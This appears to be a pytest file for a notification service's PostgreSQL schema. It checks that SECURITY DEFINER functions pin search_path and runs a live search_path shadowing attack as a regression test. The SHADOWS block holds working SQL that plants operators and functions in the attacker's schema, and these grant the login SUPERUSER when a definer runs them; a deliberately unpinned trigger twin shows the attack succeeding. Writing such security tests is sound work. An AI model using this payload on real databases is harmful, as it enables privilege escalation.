"""SECURITY DEFINER functions run as their owner whoever calls them: no caller may steer them.

A function without a pinned ``search_path`` resolves its operators and functions by the
caller's: a login that owns a schema puts an ``OPERATOR =(text, text)`` of its own there, first
on its path, and the definer runs it as the owner, the migrating superuser. Every definer
function must therefore pin ``search_path`` to ``pg_catalog, <schema>, pg_temp`` (migration
0020). The attack runs here for real, for each login that fires or calls a definer function,
and once through an unpinned twin of the trigger function, to show that it works there.
"""

from __future__ import annotations

import uuid
from collections.abc import Callable, Iterator

import psycopg
import pytest
from sqlalchemy import Connection, Engine, text

from notifier import client
from notifier.db import producers
from tests.roles import Logins

Action = Callable[[psycopg.Connection[tuple[object, ...]]], object]

UNPINNED = """
    SELECT p.oid::regprocedure::text, p.proconfig
      FROM pg_proc AS p JOIN pg_namespace AS s ON s.oid = p.pronamespace
     WHERE p.prosecdef AND s.nspname NOT IN ('pg_catalog', 'information_schema')
"""


def unpinned(conn: Connection) -> dict[str, list[str]]:
    """The definer functions whose search_path is not pinned to pg_catalog, ..., pg_temp."""
    found = {}
    for name, config in conn.execute(text(UNPINNED)):
        paths = [
            c.removeprefix("search_path=") for c in config or [] if c.startswith("search_path=")
        ]
        path = [p.strip() for p in paths[0].split(",")] if paths else []
        if not path or path[0] != "pg_catalog" or path[-1] != "pg_temp":
            found[name] = config or []
    return found


def test_every_definer_function_pins_its_search_path(engine: Engine) -> None:
    with engine.begin() as conn:
        definers = conn.execute(text(UNPINNED)).all()
        assert {name for name, _ in definers} >= {
            "notifier_status_events()",
            "notifier_status_webhook(text[])",
            "notifier_audience_rows(text)",
        }
        assert unpinned(conn) == {}
        # The check finds what it is for: a definer without a path, or with a path that
        # searches anything before pg_catalog or after pg_temp.
        for config in (
            "",
            "SET search_path = public, pg_catalog, pg_temp",
            "SET search_path = pg_catalog, public",
        ):
            conn.execute(
                text(
                    f"CREATE FUNCTION twin() RETURNS int LANGUAGE sql SECURITY DEFINER {config}"
                    " AS 'SELECT 1'"
                )
            )
            assert list(unpinned(conn)) == ["twin()"]
            conn.execute(text("DROP FUNCTION twin()"))


# What the attacker puts in its own schema: operators and functions that the definer would
# otherwise find first, each making the attacker superuser when run by one.
SHADOWS = """
    CREATE FUNCTION {s}.climb() RETURNS void LANGUAGE plpgsql AS $$
    BEGIN
        IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
            EXECUTE pg_catalog.format('ALTER ROLE %I SUPERUSER', session_user);
        END IF;
    END $$;
    CREATE FUNCTION {s}.eq(a text, b text) RETURNS boolean LANGUAGE plpgsql AS $$
    BEGIN PERFORM {s}.climb(); RETURN a OPERATOR(pg_catalog.=) b; END $$;
    CREATE OPERATOR {s}.= (LEFTARG = text, RIGHTARG = text, FUNCTION = {s}.eq);
    CREATE FUNCTION {s}.ne(a text, b text) RETURNS boolean LANGUAGE plpgsql AS $$
    BEGIN PERFORM {s}.climb(); RETURN a OPERATOR(pg_catalog.<>) b; END $$;
    CREATE OPERATOR {s}.<> (LEFTARG = text, RIGHTARG = text, FUNCTION = {s}.ne);
    CREATE FUNCTION {s}.eq8(a bigint, b bigint) RETURNS boolean LANGUAGE plpgsql AS $$
    BEGIN PERFORM {s}.climb(); RETURN a OPERATOR(pg_catalog.=) b; END $$;
    CREATE OPERATOR {s}.= (LEFTARG = bigint, RIGHTARG = bigint, FUNCTION = {s}.eq8);
    CREATE FUNCTION {s}.minus(a jsonb, b text) RETURNS jsonb LANGUAGE plpgsql AS $$
    BEGIN PERFORM {s}.climb(); RETURN a OPERATOR(pg_catalog.-) b; END $$;
    CREATE OPERATOR {s}.- (LEFTARG = jsonb, RIGHTARG = text, FUNCTION = {s}.minus);
    CREATE FUNCTION {s}.now() RETURNS timestamptz LANGUAGE plpgsql AS $$
    BEGIN PERFORM {s}.climb(); RETURN pg_catalog.now(); END $$;
    CREATE FUNCTION {s}.to_jsonb(a anyelement) RETURNS jsonb LANGUAGE plpgsql AS $$
    BEGIN PERFORM {s}.climb(); RETURN pg_catalog.to_jsonb(a); END $$;
    CREATE FUNCTION {s}.cardinality(a anyarray) RETURNS int LANGUAGE plpgsql AS $$
    BEGIN PERFORM {s}.climb(); RETURN pg_catalog.cardinality(a); END $$;
    CREATE FUNCTION {s}.quote_literal(a text) RETURNS text LANGUAGE plpgsql AS $$
    BEGIN PERFORM {s}.climb(); RETURN pg_catalog.quote_literal(a); END $$;
    CREATE FUNCTION {s}.unnest(a anyarray) RETURNS SETOF anyelement LANGUAGE plpgsql AS $$
    BEGIN PERFORM {s}.climb(); RETURN QUERY SELECT pg_catalog.unnest(a); END $$;
"""

# The trigger function as 0018 made it, without a SET clause.
TWIN = """
    DO $$ BEGIN
        EXECUTE pg_catalog.format(
            'CREATE FUNCTION notifier_status_events_unpinned() RETURNS trigger'
            ' LANGUAGE plpgsql SECURITY DEFINER AS %L',
            (SELECT prosrc FROM pg_proc WHERE proname = 'notifier_status_events'));
    END $$;
    CREATE TRIGGER unpinned_twin AFTER UPDATE ON notifications
        REFERENCING OLD TABLE AS notifier_old NEW TABLE AS notifier_new
        FOR EACH STATEMENT EXECUTE FUNCTION
        notifier_status_events_unpinned('sent', 'dead', 'cancelled', 'delivered');
"""

EVENTS = "ARRAY['sent', 'dead', 'cancelled', 'delivered', 'bounced']"


def _pending(engine: Engine, n: int = 1) -> list[int]:
    with engine.begin() as conn:
        return list(
            conn.execute(
                text(
                    "INSERT INTO notifications (channel, recipient)"
                    " SELECT 'null', 'x' FROM generate_series(1, :n) RETURNING id"
                ),
                {"n": n},
            ).scalars()
        )


def _producer_actions(engine: Engine) -> list[Action]:
    def enqueue_and_cancel_by_key(conn: psycopg.Connection[tuple[object, ...]]) -> object:
        key = f"k-{uuid.uuid4()}"
        client.enqueue(conn, channel="email", to="ann@example.com", body="hi", key=key)
        return client.cancel(conn, key, "user confirmed")

    def enqueue_and_cancel_by_id(conn: psycopg.Connection[tuple[object, ...]]) -> object:
        row = client.enqueue(conn, channel="email", to="bob@example.com", body="hi")
        return producers.cancel_by_id(conn, row.id, "user confirmed")

    return [
        enqueue_and_cancel_by_key,
        enqueue_and_cancel_by_id,
        lambda conn: conn.execute(
            "UPDATE notifications SET status = 'cancelled', updated_at = now()"
            " WHERE status = 'pending'"
        ),
        lambda conn: conn.execute(
            "INSERT INTO suppressions (channel, recipient, reason)"
            " VALUES ('email', ' Ann@Example.com', 'opted out')"
        ),
    ]


def _operator_actions(engine: Engine) -> list[Action]:
    ids = _pending(engine, 3)
    return [
        lambda conn: conn.execute(
            "INSERT INTO notifications (channel, recipient) VALUES ('null', 'y')"
        ),
        lambda conn: conn.execute(
            "UPDATE notifications SET status = 'cancelled', last_error = 'ops' WHERE id = %s",
            (ids[0],),
        ),
        lambda conn: conn.execute(
            "UPDATE notifications SET status = 'dead', last_error = 'ops' WHERE id = %s",
            (ids[1],),
        ),
        lambda conn: conn.execute(
            "UPDATE notifications SET status = 'pending', attempts = 0 WHERE id = %s", (ids[1],)
        ),
        lambda conn: conn.execute(
            "SET LOCAL ROLE notifier_audience;"
            " SELECT * FROM notifier_audience_rows('SELECT ''a@example.com'' AS recipient,"
            " 1 AS n')"
        ),
        lambda conn: conn.execute(
            "INSERT INTO suppressions (channel, recipient, reason)"
            " VALUES ('email', 'c@example.com', 'ops')"
        ),
        lambda conn: conn.execute("DELETE FROM suppressions"),
    ]


def _events_endpoint_actions(engine: Engine) -> list[Action]:
    ids = _pending(engine, 2)
    return [
        lambda conn: conn.execute(
            "UPDATE notifications SET delivery_status = 'delivered', delivery_at = now()"
            " WHERE id = %s",
            (ids[0],),
        ),
        lambda conn: conn.execute(
            "UPDATE notifications SET status = 'cancelled', last_error = 'expired' WHERE id = %s",
            (ids[1],),
        ),
        lambda conn: conn.execute(
            "INSERT INTO suppressions (channel, recipient, reason)"
            " VALUES ('email', 'd@example.com', 'unsubscribed')"
        ),
        lambda conn: conn.execute(
            f"SELECT notifier_status_webhook({EVENTS} || ARRAY['undelivered'])"
        ),
        lambda conn: conn.execute(f"SELECT notifier_status_webhook({EVENTS})"),
    ]


@pytest.fixture
def logins(engine: Engine, database_url: str) -> Iterator[Logins]:
    made = Logins(engine, database_url)
    yield made
    made.drop()


def _superuser(engine: Engine, user: str) -> bool:
    with engine.begin() as conn:
        return bool(
            conn.execute(
                text("SELECT rolsuper FROM pg_roles WHERE rolname = :u"), {"u": user}
            ).scalar_one()
        )


@pytest.mark.parametrize(
    ("group", "actions"),
    [
        ("notifier_producer", _producer_actions),
        ("notifier_operator", _operator_actions),
        # notifier events runs as a worker login (migration 0014)
        ("notifier_worker", _events_endpoint_actions),
    ],
)
def test_shadowed_operators_do_not_make_a_login_superuser(
    engine: Engine,
    logins: Logins,
    group: str,
    actions: Callable[[Engine], list[Action]],
) -> None:
    with engine.begin() as conn:
        conn.execute(text(f"SELECT notifier_status_webhook({EVENTS})"))
    user = logins.make(group, schema=True)
    with logins.connect(user) as conn:
        conn.execute(SHADOWS.format(s=user))
        conn.commit()
    path = {"search_path": f"{user},pg_catalog,public"}
    for action in actions(engine):
        with logins.connect(user, **path) as conn:
            action(conn)
            conn.commit()
        assert not _superuser(engine, user)
    with engine.begin() as conn:
        assert conn.execute(text("SELECT count(*) FROM status_events")).scalar_one() > 0

    # The same attack through a twin of the trigger function without the pinned search_path.
    with engine.begin() as conn:
        conn.execute(text(TWIN))
    for action in actions(engine)[:2]:
        with logins.connect(user, **path) as conn:
            action(conn)
            conn.commit()
    assert _superuser(engine, user)
